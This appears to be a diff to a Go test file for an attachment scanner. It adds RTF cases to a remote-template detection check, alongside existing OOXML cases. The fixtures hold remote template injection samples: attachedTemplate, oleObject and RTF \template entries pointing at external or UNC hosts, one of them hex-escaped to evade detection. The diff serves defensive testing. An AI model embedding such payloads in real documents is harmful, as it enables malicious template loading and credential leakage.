@@ -323,6 +323,9 @@ func TestChecks(t *testing.T) {
 		"remote-template": {
 			{"attachedTemplate http", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://203.0.113.9/t.dotm" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
 			{"oleObject UNC", relsMsg(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\203.0.113.9\share\x.doc" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
+			{"RTF template", attach(part("2", []byte(`{\rtf1\ansi{\*\template https://templates.files.example.invalid/t.dotm}\pard Hello\par}`), named("letter.rtf"))), "2"},
+			{"RTF template hex-escaped", attach(part("2", []byte(`{\rtf1{\*\template \'5c\'5c203.0.113.9\\share\\t.dot}Hi}`), named("letter.doc"))), "2"},
+			{"RTF local template", attach(part("2", []byte(`{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}Hi}`), named("letter.rtf"))), ""},
 			{"hyperlink", relsMsg(`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/>`), ""},
 			{"local template", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/>`), ""},
 			// Found by the corpus: a workbook linked to another on SharePoint was quarantined.
